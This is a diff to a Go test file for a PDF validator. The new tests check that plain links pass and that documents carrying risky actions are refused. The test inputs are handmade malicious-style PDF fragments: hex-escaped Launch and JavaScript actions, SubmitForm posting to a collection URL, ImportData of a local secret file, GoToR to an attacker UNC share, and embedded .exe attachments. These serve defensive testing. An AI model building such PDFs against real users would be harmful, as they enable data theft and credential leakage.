@@ -44,7 +44,8 @@ func TestHandmadePDFWithoutScriptsIsPrintable(t *testing.T) {
 	for name, pdf := range map[string][]byte{
 		"plain":          handmadePDF("", ""),
 		"go-to action":   handmadePDF("/OpenAction [3 0 R /Fit]", ""),
-		"go-to in /AA":   handmadePDF("", "/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
+		"link to a page": handmadePDF("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /GoTo /D [3 0 R /Fit] >> >>"),
+		"web link":       handmadePDF("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://borger.dk) >> >>"),
 		"with a content": handmadePDF("", "/Contents 4 0 R", stream("BT /F1 12 Tf 72 712 Td (Hej) Tj ET")),
 	} {
 		if err := ValidatePDF(pdf); err != nil {
@@ -72,6 +73,40 @@ func TestValidatePDFRefusesScripts(t *testing.T) {
 		"Launch with a hex-escaped name":     {handmadePDF("/OpenAction << /S /L#61unch /F (calc.exe) >>", ""), "Launch"},
 		"JavaScript with a hex-escaped name": {handmadePDF("/OpenAction << /S /Java#53cript /J#53 (x) >>", ""), "JavaScript"},
 		"XFA form":                           {handmadePDF("/AcroForm << /Fields [] /XFA 4 0 R >>", "", stream("<xdp:xdp/>")), "XFA"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			err := ValidatePDF(c.pdf)
+			if err == nil || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "carries") {
+				t.Fatalf("got %v, want a refusal naming %s", err, c.want)
+			}
+		})
+	}
+}
+
+// Actions that reach outside the letter, and files hidden inside it, are refused even when
+// no script is involved: a page-open action that only goes to a page is still an /AA.
+func TestValidatePDFRefusesActionsAndEmbeddedFiles(t *testing.T) {
+	link := func(action string) []byte {
+		return handmadePDF("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << "+action+" >> >>")
+	}
+	for name, c := range map[string]struct {
+		pdf  []byte
+		want string
+	}{
+		"go-to in a page /AA":        {handmadePDF("", "/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "additional actions"},
+		"document /AA":               {handmadePDF("/AA << /WP << /S /GoTo /D [3 0 R /Fit] >> >>", ""), "additional actions"},
+		"hex-escaped /AA":            {handmadePDF("", "/#41A << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "additional actions"},
+		"SubmitForm":                 {link("/S /SubmitForm /F (https://example.com/collect)"), "SubmitForm"},
+		"hex-escaped SubmitForm":     {link("/S /Submit#46orm /F (https://example.com/collect)"), "SubmitForm"},
+		"ImportData":                 {link("/S /ImportData /F (C:/Users/borger/secret.fdf)"), "ImportData"},
+		"GoToR":                      {link("/S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit]"), "GoToR"},
+		"GoToE":                      {link("/S /GoToE /T << /R /C /N (x.pdf) >>"), "GoToE"},
+		"open action GoToR":          {handmadePDF("/OpenAction << /S /GoToR /F (x.pdf) /D [0 /Fit] >>", ""), "GoToR"},
+		"EmbeddedFiles name tree":    {handmadePDF("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "", "<< /Type /Filespec /F (a.exe) >>"), "embedded files"},
+		"embedded file stream alone": {handmadePDF("", "", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), "embedded file"},
+		"file attachment annotation": {handmadePDF("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> >>",
+			"<< /Type /Embedded#46ile /Length 2 >>\nstream\nMZ\nendstream"), "embedded file"},
+		"RichMedia annotation": {handmadePDF("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"), "rich media"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			err := ValidatePDF(c.pdf)
